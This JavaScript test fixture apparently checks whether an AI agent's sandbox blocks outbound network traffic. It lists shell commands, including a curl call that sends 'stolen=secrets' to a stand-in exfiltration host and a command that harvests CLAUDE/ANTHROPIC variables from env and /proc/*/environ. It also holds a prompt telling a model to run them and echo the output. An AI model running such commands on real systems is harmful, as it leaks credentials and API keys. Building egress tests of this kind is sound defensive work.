import { MARKER } from "../model-api/index.mjs";

export const ALLOWED_HOST = "example.com";
export const BLOCKED_HOST = "exfiltration.example.net";

/** Shell commands of the agent's session; the last one repeats what the others printed. */
export const STEPS = [
  `curl -sS https://${ALLOWED_HOST}/ | head -c 200 | tee /tmp/allowed`,
  `curl -sS "https://${BLOCKED_HOST}/?stolen=secrets" | tee /tmp/blocked`,
  "{ env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; } | grep -aE '^(CLAUDE|ANTHROPIC)' | sort -u | tee /tmp/environment",
  'for name in allowed blocked environment; do echo "== $name"; cat /tmp/$name; echo; done',
];

/** Asks a real model for the same commands; the stand-in follows its script whatever it is asked. */
export const PROMPT = `Run these shell commands one by one, then answer "${MARKER}" followed by the output of the last one, word by word:\n${STEPS.join("\n")}`;
